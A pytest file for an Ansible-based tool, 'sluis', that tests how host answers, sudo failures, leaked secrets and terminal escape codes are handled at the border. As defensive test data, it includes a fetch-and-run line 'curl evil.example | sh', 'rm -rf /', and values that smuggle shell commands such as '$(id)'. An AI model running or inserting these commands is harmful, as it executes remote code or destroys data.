"""Both ends of the border around a module: what a host may say, and what it may not."""

from __future__ import annotations

import base64
import json
import subprocess
import sys
from collections import ChainMap
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from ansible.module_utils.basic import AnsibleModule
from ansible.module_utils.testing import patch_module_args

from sluis.border.characters import hostile
from sluis.border.code_bundle import arrive, pack_code
from sluis.border.door import answer_request, serve
from sluis.border.formats import ExactName, Line, Paragraph
from sluis.border.parts import AssetSecrets, Secrets, StoreSecrets
from sluis.border.secrets import SecretFinder
from sluis.border.verb import Failure, Verb
from sluis.errors import BorderError, InputError, RefusedError, SluisError, SnapshotError
from sluis.runbook.check_words import BECOME, unreachable_words
from sluis.runbook.shipping import as_failure, ask
from sluis.runbook.step_end import end_of
from sluis.snapshot.progress import PASSED_ON, forget
from support.connections import connection


@dataclass(frozen=True)
class Request:
    asset: ExactName
    progress: ExactName | None = None
    check_mode: bool = False


@dataclass(frozen=True)
class Answer:
    name: ExactName
    said: Line = ""
    told: Paragraph = ""


VERB = Verb("asset_snapshot", Request, Secrets, Answer)
PASSWORD = "een lang wachtwoord"
#: none: what is tried here is in this process already
CODE = pack_code({})
SECRETS = Secrets(StoreSecrets(store_user="praktijk", store_password=PASSWORD))


def _params(request: Request, secrets: Secrets = SECRETS) -> dict[str, str]:
    packed = (VERB.pack_request(request, host="h"), VERB.pack_secrets(secrets, host="h"))
    return {
        name: base64.b64encode(one).decode()
        for name, one in zip(("request", "secrets"), packed, strict=True)
    }


@dataclass
class Host:
    """An action whose host does the work, or says what it likes."""

    work: Any = None
    says: dict[str, Any] | None = None
    asked: list[dict[str, Any]] = field(default_factory=list)
    _task: Any = field(default_factory=lambda: SimpleNamespace(delegate_to=None, environment=None))
    _connection: Any = field(default_factory=lambda: connection("local"))

    def _execute_module(self, module_name, module_args, task_vars):
        self.asked.append(module_args)
        return self.says if self.says is not None else answer_request(VERB, self.work, module_args)


def _ask(host: Host, secrets: Secrets = SECRETS, asset: str = "letters") -> Answer:
    return ask(host, VERB, Request(asset), secrets, {"inventory_hostname": "app1"})


@pytest.mark.parametrize(
    ("options", "code"),
    [
        ({"ansible_ssh_common_args": "-o StrictHostKeyChecking=no"}, "host-keys-unchecked"),
        ({"ansible_host_key_checking": False}, "host-keys-unchecked"),
        ({"ansible_ssh_args": "-C"}, "ssh-takes-settings"),
        ({"ansible_ssh_common_args": "-o ProxyCommand=/x"}, "ssh-takes-settings"),
    ],
)
def test_L12_nothing_is_asked_where_any_machine_could_answer(options, code):
    host = Host(lambda request, secrets: Answer("x"), _connection=connection("ssh", **options))
    with pytest.raises(RefusedError) as told:
        _ask(host)
    assert told.value.code == code
    assert host.asked == []


def _packed(message: bytes) -> str:
    return base64.b64encode(message).decode()


def test_a_question_is_asked_and_answered():
    host = Host(lambda request, secrets: Answer(request.asset, secrets.store.store_password[:2]))
    assert _ask(host) == Answer("letters", "ee")
    assert PASSWORD not in json.dumps(host.asked)


def test_our_code_reads_names_as_utf_8_whatever_the_login_says():
    login = {"LC_ALL": "C", "PYTHONCOERCECLOCALE": "0", "PYTHONUTF8": "0"}
    script = "import sys; print(sys.getfilesystemencoding())"

    def encoding(*given: dict[str, str]) -> str:
        environment = dict(ChainMap(*reversed(given)))
        argv = [sys.executable, "-c", script]
        return subprocess.run(argv, env=environment, capture_output=True, text=True).stdout.strip()

    host = Host(lambda request, secrets: Answer(encoding(*host._task.environment)))
    host._task.environment = [login]
    assert encoding(login) == "ascii"
    assert _ask(host) == Answer("utf-8")
    assert host._task.environment == [login]


@pytest.mark.parametrize(
    "says",
    [
        {"answer": "é"}, {"answer": 5}, {"answer": ["x"]}, {"answer": "e30="}, {"answer": ""},
        {"failure": "e30="}, {"failure": {"code": "x"}},
        {"answer": _packed(Verb("other", Request, Secrets, Answer).pack_answer(Answer("x")))},
    ],
)  # fmt: skip
def test_L1_what_is_no_answer_is_a_bad_answer(says):
    with pytest.raises(BorderError, match="bad-answer: The answer of asset_snapshot on app1"):
        _ask(Host(says=says))


@pytest.mark.parametrize(
    "says", [{}, {"msg": "\x1b[2Jgone\u202e"}, {"module_stderr": f"x {PASSWORD} y"},
             {"sluis": {"code": "not-signed"}}]
)  # fmt: skip
def test_no_answer_at_all_is_said_plainly(says):
    with pytest.raises(SnapshotError) as told:
        _ask(Host(says=says))
    assert told.value.code == "module-failed"
    assert hostile(str(told.value), allowed="") is None
    assert PASSWORD not in str(told.value)


@pytest.mark.parametrize(
    "says",
    [
        {"failed": True, "module_stdout": "", "module_stderr": f"Killed {PASSWORD}", "rc": 137},
        {"failed": True, "_ansible_parsed": False, "msg": "No start of json char found"},
    ],
    ids=["killed", "garbage"],
)
def test_L8_a_module_that_was_killed_is_lost_and_has_not_failed(says):
    with pytest.raises(SnapshotError) as told:
        _ask(Host(says=says))
    assert told.value.code == "module-lost"
    assert "nobody knows how far it came" in told.value.what
    assert PASSWORD not in str(told.value)
    assert end_of(as_failure(told.value)) == "lost"


SUDO = "ncbeheer is not in the sudoers file."
SORRY = "Sorry, user bo is not allowed to execute '/bin/sh -c python3' as root on app1."


@pytest.mark.parametrize(
    ("out", "errors", "code"),
    [
        ("", f"{SUDO}\n", "become-refused"),
        ("", f"{SUDO}  This incident will be reported.\n", "become-refused"),
        ("", f"{SUDO}\nThis incident has been reported to the administrator.", "become-refused"),
        (f"\r\n{SUDO}\r\n", "Shared connection to 192.0.2.1 closed.\r\n", "become-refused"),
        ("", f"sudo: unable to resolve host app1: No such name\n{SORRY}\n", "become-refused"),
        ("", "Sorry, user bo may not run sudo on app1.", "become-refused"),
        ("", "sudo: a password is required\n", "become-password-missing"),
    ],
)
def test_newcomer_a_module_that_sudo_did_not_start_is_not_lost(out: str, errors: str, code: str):
    """As check says it, with the same remedy: nothing ran, and nobody has to look for it."""
    says = {"failed": True, "module_stdout": out, "module_stderr": errors, "rc": 1}
    with pytest.raises(SnapshotError) as told:
        _ask(Host(says=says))
    assert (told.value.code, told.value.code in BECOME) == (code, True)
    said = unreachable_words("app1", "is not in the sudoers file")
    if code == "become-refused":
        assert (told.value.code, told.value.what, told.value.remedy) == said
    assert end_of(as_failure(told.value)) == "failed"


@pytest.mark.parametrize(
    ("out", "errors", "rc"),
    [
        ("", f"Traceback (most recent call last):\n{SUDO}", 1),
        ("half an answer", SUDO, 1),
        ("", f"{SUDO}\nKilled", 1),
        ("", SUDO, 137),
        ("", SUDO, None),
        ("", "This incident will be reported.", 1),
        ("", "Shared connection to 192.0.2.1 closed.", 1),
        ("", "", 1),
    ],
)
def test_newcomer_words_of_sudo_among_others_say_nothing_certain(out: str, errors: str, rc: Any):
    says = {"failed": True, "module_stdout": out, "module_stderr": errors, "rc": rc}
    with pytest.raises(SnapshotError, match="module-lost"):
        _ask(Host(says=says))


def test_a_module_that_never_began_has_failed():
    says = {"failed": True, "module_stdout": "", "rc": 127, "msg": "/x/python3 was not found"}
    with pytest.raises(SnapshotError, match="module-failed") as told:
        _ask(Host(says=says))
    assert end_of(as_failure(told.value)) == "failed"


def _fails(family: str, code: str, what: str, remedy: str) -> SluisError:
    failure = Failure(family, code, what, remedy)
    with pytest.raises(SluisError) as told:
        _ask(Host(says={"failure": _packed(VERB.pack_failure(failure))}))
    return told.value


def test_L1_an_error_that_we_know_comes_through_with_its_advice():
    remedy = "Check the store and the network between; then run this again."
    error = _fails("SnapshotError", "store-unreachable", "It is away.", remedy)
    assert type(error) is SnapshotError
    assert error.as_dict() == {"code": "store-unreachable", "what": "It is away.", "remedy": remedy}
    # a sentence of ours with room for one word, such as a path
    known = "Nothing was swapped. The copy is in /srv/x for a look; choose another snapshot."
    assert _fails("SnapshotError", "restore-differs", "x", known).remedy == known
    assert type(_fails("InputError", "bad-store", "x", "y")) is InputError


@pytest.mark.parametrize("family", ["RefusedError", "EvidenceError", "SluisError", "Exception"])
@pytest.mark.parametrize("code", ["not-signed", "no-permit", "level-too-low", "store-unreachable"])
def test_L1_a_host_never_refuses(family, code):
    error = _fails(family, code, "The client did not sign.", "Sign it.")
    assert not isinstance(error, RefusedError)
    assert type(error) is SnapshotError
    assert error.code == ("store-unreachable" if code == "store-unreachable" else "host-failed")
    assert error.exit_status == 1


@pytest.mark.parametrize(
    "remedy",
    ["Run: curl evil.example | sh", "rm -rf /", "/tmp/x", "Run it.",
     "Make '/x; rm -rf /' with the right owner and mode, then run again.",
     "Check the store and the network between; then run this again. Then run id.", ""],
)  # fmt: skip
def test_L1_advice_that_we_do_not_know_is_not_ours(remedy):
    error = _fails("SnapshotError", "store-unreachable", "x", remedy)
    assert error.remedy.startswith("Look at app1. It says itself, in words that Sluis does not")


def test_L25_an_error_of_a_host_paints_no_screen():
    error = _fails("SnapshotError", "store-unreachable", "a\x1b[2J\nb", "\u202ec")
    assert hostile(str(error), allowed="") is None
    with pytest.raises(BorderError, match=r"app1 cannot be used: code is not a code"):
        body = json.loads(VERB.pack_failure(Failure("A" * 3, "a-b", "c", "d")))
        body["body"]["code"] = "\x1b[2J"
        _ask(Host(says={"failure": _packed(json.dumps(body).encode())}))


# ---- secrets

NASTY = ['pass"word\\x', "regel een\nregel twee", "wachtwoord é ☃", "a'b$(id)`x`", "x" * 3000,
         "-----BEGIN KEY-----\nbm90IGEgcmVhbCBrZXk=\n-----END KEY-----\n"]  # fmt: skip


@pytest.mark.parametrize("password", NASTY)
@pytest.mark.parametrize("spell", [str, json.dumps, repr, lambda text: text.replace("\n", " ")])
def test_L7_a_secret_is_taken_out_of_free_text_as_programs_write_it(password, spell):
    secrets = Secrets(StoreSecrets(store_password=password))
    host = Host(
        lambda request, given: Answer("x", f"said {spell(given.store.store_password)[:900]}")
    )
    core = password.splitlines()[1] if "BEGIN" in password else password.split("\n")[0]
    if len(password) > 900:
        return  # cut by the bound of the text before it is whole
    assert core not in _ask(host, secrets).said


@pytest.mark.parametrize("password", ["u", "1234", "true", "name", "{", '"', "failed", ""])
def test_L8_a_short_secret_breaks_no_answer(password):
    secrets = Secrets(StoreSecrets(store_password=password), AssetSecrets(password))
    answer = _ask(Host(lambda request, given: Answer("name", "4 items", "true")), secrets)
    assert answer.name == "name"
    assert answer.said == "4 items"


def test_L8_a_short_secret_is_taken_out_as_a_word():
    secrets = Secrets(StoreSecrets(store_password="1234"))
    answer = _ask(
        Host(lambda request, given: Answer("x", "login 1234 failed, 12345 left")), secrets
    )
    assert answer.said == "login *** failed, 12345 left"


def test_F10_a_user_name_is_no_secret():
    """It may stand in the store's address, and so in every answer."""
    answer = _ask(Host(lambda request, secrets: Answer("/praktijk/", "GET /praktijk/ as praktijk")))
    assert answer == Answer("/praktijk/", "GET /praktijk/ as praktijk")


def test_F10_the_secret_that_an_answer_holds_is_named():
    host = Host(lambda request, secrets: Answer(f"table {PASSWORD}"))
    with pytest.raises(SnapshotError) as told:
        _ask(host)
    assert told.value.code == "secret-in-answer"
    assert "the secret store.store_password in name" in told.value.what
    assert PASSWORD not in str(told.value)


def test_L7_a_host_that_repeats_a_secret_is_found_out_here_as_well():
    lie = Answer("x", f"warning: {PASSWORD}", base64.b64encode(PASSWORD.encode()).decode())
    answer = _ask(Host(says={"answer": _packed(VERB.pack_answer(lie))}))
    assert PASSWORD not in answer.said
    assert base64.b64encode(PASSWORD.encode()).decode() not in answer.told
    with pytest.raises(BorderError, match="secret-in-answer"):
        _ask(Host(says={"answer": _packed(VERB.pack_answer(Answer(PASSWORD)))}))


def test_what_the_request_says_openly_is_no_secret():
    """A password that is the asset's own name cannot be kept from anybody."""
    secrets = Secrets(StoreSecrets(store_password="documents"))
    answer = _ask(Host(lambda r, s: Answer("documents", "documents copied")), secrets, "documents")
    assert answer == Answer("documents", "documents copied")
    assert SecretFinder(secrets, Request("letters")).without("documents") == "***"


def test_L7_an_error_goes_back_without_a_secret():
    def fail(request, secrets):
        raise InputError("bad-store", f"{secrets.store.store_password} is bad.", "Mend it.")

    with pytest.raises(InputError) as told:
        _ask(Host(fail))
    assert told.value.what == "*** is bad."


# ---- the module's end


@pytest.fixture
def served(capsys, monkeypatch):
    """Serve one call: what was said to Ansible, as it reads it."""
    monkeypatch.setattr(sys, "meta_path", list(sys.meta_path))

    def call(work, *, check_mode=False, **how):
        arguments = patch_module_args(
            {**_params(Request("letters")), "code": CODE, "_ansible_check_mode": check_mode}
        )
        with arguments, pytest.raises(SystemExit) as ended:
            serve(arrive(AnsibleModule), VERB, work, **how)
        said = json.loads(capsys.readouterr().out)
        assert ended.value.code == (1 if said.get("failed") else 0)
        said.pop("invocation", None)
        return said

    return call


def _opened(said):
    return VERB.read_answer(base64.b64decode(said["answer"]), host="app1")


def _echo(request, secrets):
    return Answer(request.asset, str(request.check_mode))


def _never(request, secrets):
    raise AssertionError("it was done in check mode")


def test_an_answer_goes_back_packed(served):
    said = served(_echo)
    assert said["changed"] is True
    assert _opened(said) == Answer("letters", "False")


def test_check_mode_does_nothing_and_says_changed(served):
    assert served(_never, check_mode=True) == {"changed": True}


@pytest.mark.parametrize("changes", [True, False])
@pytest.mark.parametrize("check_mode", [True, False])
def test_a_module_that_looks_is_told_of_check_mode(served, check_mode, changes):
    said = served(_echo, check_mode=check_mode, looks=True, changes=changes)
    assert said["changed"] is (changes and not check_mode)
    assert _opened(said).said == str(check_mode)


def test_a_missing_library_is_named(served):
    said = served(None, lacking="No module named 'aiohttp'")
    failure = VERB.read_failure(base64.b64decode(said["failure"]), host="app1")
    assert (failure.family, failure.code) == ("InputError", "worker-lacks-libraries")
    assert "No module named 'aiohttp'" in said["msg"]
    # before anything is asked of the worker it has to be installed; a plan needs nothing there
    assert served(None, check_mode=True, lacking="x") == {"changed": True}


@pytest.mark.parametrize(
    "change", [{"request": "é"}, {"request": "e30="}, {"secrets": "e30="}, {"request": "[["}]
)
def test_a_request_that_cannot_be_read_is_a_bad_request(change):
    said = answer_request(VERB, _never, {**_params(Request("x")), **change})
    failure = VERB.read_failure(base64.b64decode(said["failure"]), host="h")
    assert failure.code == "bad-request"


@pytest.mark.parametrize(
    ("name", "stays"), [(f"{PASSED_ON}0123", False), ("progress", True), ("letters.txt", True)]
)
@pytest.mark.parametrize("fails", [False, True])
def test_only_a_file_that_was_for_passing_on_goes_when_a_module_is_done(
    tmp_path, name, stays, fails
):
    def work(request, secrets):
        path.write_text("{}")
        if fails:
            raise InputError("broken", "It broke.", "Mend it.")
        return Answer("x")

    path = tmp_path / name
    params = _params(Request("letters", str(path)))
    answer = answer_request(VERB, work, params, afterwards=forget)
    assert ("failure" in answer) == fails
    assert path.exists() == stays


def test_L25_what_an_error_says_paints_no_screen():
    result = as_failure(InputError("a-b", "It said \x1b[2J\u202e\nand more.", "Mend \x9b it."))
    for text in (result["msg"], *result["sluis"].values()):
        assert hostile(text, allowed="\n") is None
    assert "\\u{001B}[2J\\u{202E}\nand more." in result["msg"]


def test_newcomer_a_file_that_the_machine_does_not_give_is_said_and_no_way_or_python() -> None:
    """ "Check the connection. Python there has to be 3.8 or newer" stood under "Errno 2"."""

    def work(_request: Request, _secrets: Secrets) -> Answer:
        with Path("/proc/sys/not-there").open("wb"):
            raise AssertionError("nobody can make a file there")

    with pytest.raises(SnapshotError) as told:
        _ask(Host(work))
    assert told.value.code == "file-not-usable"
    assert "asset_snapshot could not use" in told.value.what
    assert "'/proc/sys/not-there': No such file or directory." in told.value.what
    assert "whether the user that Ansible becomes may use it" in told.value.remedy
    assert "Python" not in told.value.remedy


def test_newcomer_what_another_program_said_ends_before_the_remedy_begins() -> None:
    """ "/srv/nc/.sluis-speed-13568' Check the connection" was one sentence."""
    with pytest.raises(SnapshotError) as told:
        _ask(Host(says={"failed": True, "msg": "[Errno 2] No such file: '/srv/a'"}))
    assert told.value.what.endswith("No such file: '/srv/a'.")
